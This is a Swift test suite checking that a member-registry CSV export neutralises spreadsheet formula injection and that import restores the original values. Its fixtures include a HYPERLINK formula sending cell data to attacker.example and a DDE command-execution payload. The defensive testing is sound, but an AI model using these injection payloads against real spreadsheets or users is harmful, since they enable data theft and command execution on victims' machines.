import BeaconMeshCore
import Foundation
import Testing

@testable import BeaconMeshRegistry

@Suite("Members CSV: cells a spreadsheet would run as formulas")
struct MembersCSVFormulaTests {
    static let uuid = "0cf052c2-97ca-407c-84f8-b62aac4e9020"

    /// Names (and drinks, custom fields, a custom column's name) that a spreadsheet would run, and ones that look close.
    static let members: [MemberRecord] = [
        record("evil", #"=HYPERLINK("http://attacker.example/?d="&A1,"Click")"#, drink: "+1+cmd|' /C calc'!A0", minor: 1),
        record("plus", "+44 20 7946 0000", drink: "-2+3", minor: 2, custom: ["=tier": "@SUM(A1:A9)"]),
        record("at", "@Ana", drink: "'=quoted already", minor: 3),
        record("dash", "-Zoë", drink: "''+twice quoted", minor: 4),
        record("plain", "O'Brien", drink: "'just a quote", minor: 5, custom: ["=tier": "gold"]),
    ]

    static func record(_ id: String, _ name: String, drink: String, minor: Int, custom: [String: String] = [:]) -> MemberRecord {
        MemberRecord(
            profile: MemberProfile(id: id, name: name, favoriteDrink: drink, visits: 1, customFields: custom),
            beacons: [BeaconKey("ibeacon:\(uuid):1:\(minor)")!], createdAt: Timestamp(milliseconds: 1_735_689_600_000))
    }

    static func temporaryFile() throws -> String {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("beaconmesh-csv-\(UUID().uuidString)").path
        try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
        return folder + "/members.csv"
    }

    @Test("export writes every cell that begins with =, +, - or @ with a leading ', header included; nothing else changes")
    func exportGuardsFormulas() throws {
        let path = try Self.temporaryFile()
        try MembersCSV.write(Self.members, to: path)
        let text = try String(contentsOfFile: path, encoding: .utf8)
        let lines = text.split(whereSeparator: \.isNewline).map(String.init)
        #expect(lines[0].hasSuffix(",checkins,'=tier"), "\(lines[0])")
        #expect(
            lines[1].hasPrefix(#"evil,"'=HYPERLINK(""http://attacker.example/?d=""&A1,""Click"")",'+1+cmd|' /C calc'!A0,"#), "\(lines[1])")
        #expect(lines[2].hasPrefix("plus,'+44 20 7946 0000,'-2+3,"), "\(lines[2])")
        #expect(lines[2].hasSuffix(",'@SUM(A1:A9)"), "\(lines[2])")
        #expect(lines[3].hasPrefix("at,'@Ana,''=quoted already,"), "\(lines[3])")
        #expect(lines[4].hasPrefix("dash,'-Zoë,'''+twice quoted,"), "\(lines[4])")
        #expect(lines[5].hasPrefix("plain,O'Brien,'just a quote,"), "\(lines[5])")
        // No cell of the file begins with a formula character.
        for line in lines {
            for cell in try #require(try MembersCSV.cells(of: line)) {
                #expect(!cell.isEmpty ? !FormulaCell.triggers.contains(cell.first!) : true, "a cell starts a formula: \(cell)")
            }
        }
    }

    @Test("import takes the one ' away again: a guarded export imports unchanged")
    func roundTrip() throws {
        let path = try Self.temporaryFile()
        try MembersCSV.write(Self.members, to: path)
        #expect(try String(contentsOfFile: path, encoding: .utf8).contains("at,'@Ana,''=quoted already,"), "the export is guarded")
        let back = try MembersCSV.read(path: path).records
        #expect(back.map(\.profile.name) == Self.members.map(\.profile.name))
        #expect(back.map(\.profile.favoriteDrink) == Self.members.map(\.profile.favoriteDrink))
        #expect(back.map(\.profile.customFields) == Self.members.map(\.profile.customFields))
        #expect(back == Self.members)
        // A file a person saved from a spreadsheet with the guard: the names come back without it.
        let typed = try MembersCSV.parse(
            """
            id,name,favoriteDrink,beacons,photo,visits,lastVisitAt,createdAt
            evil,'=1+1,'@tea,,,0,,
            """, file: "typed.csv")
        #expect(typed.first?.profile.name == "=1+1" && typed.first?.profile.favoriteDrink == "@tea")
    }

    @Test("the rule both ways, cell by cell")
    func cellRule() {
        let cases: [(text: String, written: String)] = [
            ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("'=1", "''=1"), ("''-1", "'''-1"),
            ("", ""), ("'", "'"), ("''", "''"), ("'a", "'a"), ("a=1", "a=1"), (" =1", " =1"), ("Ana", "Ana"),
        ]
        for (text, written) in cases {
            #expect(FormulaCell.written(text) == written, "\(text)")
            #expect(FormulaCell.read(written) == text, "\(written)")
        }
    }
}

extension MembersCSV {
    /// The cells of one CSV line, for checking what a spreadsheet would see.
    fileprivate static func cells(of line: String) throws -> [String]? {
        var cells: [String] = []
        var current = ""
        var quoted = false
        var index = line.startIndex
        while index < line.endIndex {
            let character = line[index]
            if quoted {
                if character == "\"" {
                    let next = line.index(after: index)
                    if next < line.endIndex && line[next] == "\"" {
                        current.append("\"")
                        index = next
                    } else {
                        quoted = false
                    }
                } else {
                    current.append(character)
                }
            } else if character == "\"" {
                quoted = true
            } else if character == "," {
                cells.append(current)
                current = ""
            } else {
                current.append(character)
            }
            index = line.index(after: index)
        }
        cells.append(current)
        return cells
    }
}
